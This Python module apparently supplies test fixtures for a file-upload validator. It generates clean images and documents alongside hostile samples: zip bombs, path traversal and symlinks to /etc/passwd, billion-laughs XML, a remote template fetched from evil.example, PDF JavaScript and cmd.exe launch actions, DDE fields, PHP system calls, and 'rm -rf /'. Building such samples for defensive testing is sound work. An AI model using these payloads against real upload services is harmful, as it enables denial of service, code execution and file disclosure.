"""Good and hostile files, all made here: no sample of anybody's is kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.base import ContentFile
from PIL import Image

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def upload(name: str, data: bytes) -> ContentFile:
    return ContentFile(data, name=name)


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options) -> bytes:
    image = Image.new(mode, size)
    for x in range(size[0]):
        for y in range(min(size[1], 8)):
            image.putpixel((x, y), (x % 256, y * 8, 99) if mode == "RGB" else x % 200)
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def jpeg_with_gps(orientation: int = 1, size: tuple[int, int] = (80, 40)) -> bytes:
    exif = Image.Exif()
    exif[0x0110] = "PHONE-MODEL-CANARY"
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (26.0, 53.0, 24.5), 3: "E", 4: (112.0, 34.0, 12.5)})
    return picture(size=size, exif=exif, comment=b"COMMENT-CANARY")


def package(parts: dict[str, str | bytes] | None = None, types: str = DOCX_TYPE) -> bytes:
    """A small docx (or what `types` says) with some parts added or replaced."""
    every: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{types}"/></Types>',
        "word/document.xml": BODY,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in (every | (parts or {})).items():
            zipped.writestr(name, content)
    return out.getvalue()


def pdf(inside: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog " + inside + b">>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header promises width × height and whose data is next to nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def gif_header(width: int, height: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\0\0"
        + b"\0" * 6
        + (b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\0\x02\x02L\x01\0;")
    )


def bomb(megabytes: int = 60) -> bytes:
    return package({"word/media/fill.xml": b" " * (megabytes * 1024 * 1024)})


def many_parts(count: int) -> bytes:
    return package({f"word/p{n}.xml": "x" for n in range(count)})


def lying_size() -> bytes:
    """A part that holds 8 MB and declares 100 bytes, in both places where the size is written."""
    data = package({"word/big.xml": b"a" * (8 * 1024 * 1024)})
    real = struct.pack("<I", 8 * 1024 * 1024)
    assert data.count(real) >= 2
    return data.replace(real, struct.pack("<I", 100))


def overlapping() -> bytes:
    """A directory whose entries all point at the same big part."""
    data = package({f"word/{n:03d}.xml": bytes(range(256)) * 40 for n in range(40)})
    out = bytearray(data)
    at, first = 0, None
    while (at := out.find(b"PK\x01\x02", at)) >= 0:
        if out[at + 46 : at + 55] == b"word/000.":
            first = (bytes(out[at + 16 : at + 28]), bytes(out[at + 42 : at + 46]))
        at += 4
    assert first
    at = 0
    while (at := out.find(b"PK\x01\x02", at)) >= 0:
        if out[at + 46 : at + 49] == b"wor":
            struct.pack_into("<I", out, at + 20, 2_000_000)
        at += 4
    return bytes(out)


def flagged_encrypted() -> bytes:
    out = bytearray(package())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := out.find(magic, at)) >= 0:
            out[at + offset] |= 1
            at += 4
    return bytes(out)


def with_symlink() -> bytes:
    out = io.BytesIO(package())
    with zipfile.ZipFile(out, "a") as zipped:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0o120777 << 16
        zipped.writestr(info, "/etc/passwd")
    return out.getvalue()


def with_doubled_name() -> bytes:
    data = package({"word/document.xmm": "other"})
    return data.replace(b"word/document.xmm", b"word/document.xml")


def four_gigabyte_part() -> bytes:
    out = bytearray(package())
    at = out.rfind(b"PK\x01\x02")
    struct.pack_into("<I", out, at + 24, 0xFFFFFFFE)
    return bytes(out)


def prefixed_zip(prefix: bytes) -> bytes:
    return prefix + package()


LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
REMOTE = (
    '<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
LOCAL_TEMPLATE = REMOTE.replace("https://evil.example/t.dotm", "file:///C:/Templates/Normal.dotm")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MP4 = b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41" + b"\0" * 64
AVIF = b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 64

# name, bytes, what the answer says
HOSTILE: list[tuple[str, str, bytes, str]] = [
    ("program as photo", "照片.jpg", b"MZ\x90\0" + b"\0" * 200, "程序"),
    ("linux program as pdf", "材料.pdf", b"\x7fELF" + b"\0" * 200, "程序"),
    ("shell script as text", "说明.txt", b"#!/bin/sh\nrm -rf /\n", "脚本"),
    ("svg", "图.svg", SVG, "SVG"),
    ("svg as png", "图.png", SVG, "SVG"),
    ("svg as text", "图.txt", b"\xef\xbb\xbf" + SVG, "SVG"),
    ("html as text", "信.txt", b"<html><body>x</body></html>", "网页或脚本"),
    ("php as text", "信.txt", b"<?php system('id'); ?>", "网页或脚本"),
    ("html in a jpeg comment", "a.jpg", picture(comment=b"<script>alert(1)</script>"), "夹带了网页或脚本"),
    ("php after a png", "a.png", picture("PNG") + b"<?php system('id'); ?>", "夹带了网页或脚本"),
    (
        "script split over two reads",
        "a.jpg",
        picture() + b"\xff" * (256 * 1024 - len(picture()) - 4) + b"<script>",
        "夹带",
    ),
    ("jar behind a gif", "a.gif", picture("GIF", mode="L") + package(), "夹带了压缩包"),
    ("zip behind a jpeg", "a.jpg", picture() + package(), "夹带了压缩包"),
    ("zip behind a pdf", "a.pdf", pdf() + package(), "夹带了压缩包"),
    (
        "pdf with javascript",
        "a.pdf",
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "脚本或启动",
    ),
    ("pdf with spelt-out javascript", "a.pdf", pdf(b"/S /J#61va#53cript"), "脚本或启动"),
    ("pdf that launches", "a.pdf", pdf(b"/S /Launch /F (cmd.exe)"), "脚本或启动"),
    ("pdf cut short", "a.pdf", pdf()[:40], "不完整"),
    ("pdf behind junk", "a.pdf", b"\0\0junk" + pdf(), "不是可接收的格式"),
    ("pdf named as photo", "a.jpg", pdf(), "与扩展名 .jpg 不符"),
    ("photo named as word", "a.docx", picture(), "与扩展名 .docx 不符"),
    ("docx named as program", "a.exe", package(), "扩展名 .exe"),
    ("zip bomb", "a.docx", bomb(), "压缩炸弹"),
    ("a million parts, in small", "a.docx", many_parts(5100), "压缩炸弹"),
    ("part that lies about its size", "a.docx", lying_size(), "损坏"),
    ("parts that overlap", "a.docx", overlapping(), "压缩炸弹"),
    ("part of four gigabytes", "a.docx", four_gigabyte_part(), "压缩炸弹"),
    ("macro part", "a.docx", package({"word/vbaProject.bin": b"\0"}), "宏"),
    (
        "macro-enabled type",
        "a.docx",
        package(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "宏",
    ),
    ("docm", "a.docm", package({"word/vbaProject.bin": b"\0"}), "宏"),
    ("excel 4 macro sheet", "a.xlsx", package({"xl/macrosheets/sheet1.xml": "<x/>"}, XLSX_TYPE), "宏"),
    ("path out of the package", "a.docx", package({"../../etc/cron.d/x": "x"}), "内部结构不正常"),
    ("absolute path", "a.docx", package({"/etc/passwd": "x"}), "内部结构不正常"),
    ("windows path", "a.docx", package({"..\\..\\x": "x"}), "内部结构不正常"),
    ("symbolic link", "a.docx", with_symlink(), "内部结构不正常"),
    ("one name twice", "a.docx", with_doubled_name(), "内部结构不正常"),
    ("billion laughs", "a.docx", package({"word/document.xml": LAUGHS}), "外部实体"),
    ("laughs in utf-16", "a.docx", package({"word/document.xml": LAUGHS.encode("utf-16")}), "外部实体"),
    ("template from afar", "a.docx", package({"word/_rels/settings.xml.rels": REMOTE}), "外部网址"),
    (
        "dde field",
        "a.docx",
        package({"word/document.xml": BODY.replace("<w:body/>", "DDEAUTO c:\\\\cmd")}),
        "DDE",
    ),
    ("password flag", "a.docx", flagged_encrypted(), "密码"),
    (
        "old or encrypted office file",
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "旧版 Office",
    ),
    ("plain zip as docx", "a.docx", package({}, "text/plain"), "不是 Word 文档"),
    ("docx cut short", "a.docx", package()[:200], "损坏"),
    ("program before a docx", "a.docx", prefixed_zip(b"MZ\x90\0"), "程序"),
    ("rar", "a.docx", b"Rar!\x1a\x07\0" + b"\0" * 60, "压缩包"),
    ("pixel flood png", "a.png", png_header(50_000, 50_000), "像素过大"),
    ("pixel flood just over the warning", "a.png", png_header(8_000, 8_000), "像素过大"),
    ("one pixel high, endless wide", "a.png", png_header(400_000, 10), "像素过大"),
    ("pixel flood gif", "a.gif", gif_header(65_000, 65_000), "像素过大"),
    ("jpeg cut short", "a.jpg", picture(size=(400, 400))[:900], "不完整或已损坏"),
    ("jpeg of rubbish", "a.jpg", b"\xff\xd8\xff\xe0" + b"\x42" * 400, "不完整或已损坏"),
    ("png of rubbish", "a.png", b"\x89PNG\r\n\x1a\n" + b"\x42" * 400, "不完整或已损坏"),
    ("heic of rubbish", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\x42" * 400, "不完整或已损坏"),
    ("webp of rubbish", "a.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\x42" * 40, "不完整或已损坏"),
    ("video as photo", "a.jpg", MP4, "视频"),
    ("avif", "a.avif", AVIF, "AVIF"),
    ("binary as text", "a.txt", b"abc\0def", "不是可接收的格式"),
    ("terminal codes as text", "a.txt", "你好\x1b[2J".encode(), "不是可接收的格式"),
    ("nothing", "a.jpg", b"", "空文件"),
]
